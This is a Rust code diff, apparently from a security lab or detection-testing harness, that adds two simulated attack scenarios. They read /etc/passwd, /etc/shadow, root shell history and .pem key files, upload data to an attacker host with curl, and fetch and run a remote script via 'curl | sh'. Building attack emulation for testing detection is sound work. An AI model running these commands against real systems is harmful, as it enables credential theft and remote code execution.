@@ -9,7 +9,7 @@ use super::{
 use crate::{
     Attack, Via,
     lab::User,
-    load::{JVM_PORT, PHP_PORT, REDIS_PORT},
+    load::{JVM_PORT, PHP_PORT, REDIS_PORT, ssh},
     network::Site,
     process::run,
     truth::marks::Class,
@@ -187,6 +187,20 @@ pub(super) const INSIDE: &[Act] = inside! {
             Site::Attacker.ipv4()
         );
         Ok(post(s, PHP_PORT, "code.php", &["--data-urlencode", &code])?)
+    };
+    "io-uring-only", Other, "app", ["app"], |s| {
+        let code = include_str!("../../python/uring.py")
+            .replace("@PATH@", "/etc/passwd")
+            .replace("@PEER@", &Site::Attacker.ipv4().to_string())
+            .replace("@PORT@", "4443");
+        Ok(python(s, &code)?)
+    };
+    "stolen-login", Other, "login", [], |s| {
+        let script = peer("id; sudo -n -l; cat /etc/shadow /root/.bash_history; find / -xdev -name '*.pem' | \
+            head -50; ps aux; curl -s -T /etc/passwd telnet://@P:4443; curl -s http://@P:8000/tool | sh");
+        let mut shell = s.lab.command(Site::Attacker, "attacker", &User::ROOT, "/bin/sh")?;
+        shell.arg("-c").arg(format!("{} \": {}; {script}\" >/dev/null 2>&1; true", ssh(s.lab), s.token()));
+        Ok(run(shell).map(drop)?)
     };
     "scan-out", Other, "app", ["app"], |s| attack(s, Attack::ScanOut);
     "bind-shell", Intrinsic, "jvm", [], |s| bound(s, Entry::Jvm);
